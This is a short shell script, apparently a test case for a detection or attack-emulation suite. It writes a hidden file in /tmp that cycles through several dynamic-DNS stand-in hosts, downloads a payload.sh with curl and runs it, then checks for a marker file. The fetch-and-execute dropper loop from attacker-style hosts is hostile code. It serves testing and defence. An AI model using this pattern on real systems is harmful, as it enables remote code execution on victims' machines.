#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.dd.sh <<'END'
for n in 1 2 3; do
    for h in sysupd.duckdns.example.org sysupd.ddns.example.net sysupd.hopto.example.org cdn-sysupd.dynv6.example.net; do
        a=$(getent ahostsv4 $h | awk 'NR == 1 { print $1 }')
        test -n "$a" && curl -s -m 2 -H "Host: $h" "http://$a/payload.sh" -o /tmp/.w && sh /tmp/.w && break 2
    done
    sleep 1
done
END
bash /tmp/.dd.sh
test -e /tmp/reached
took_place
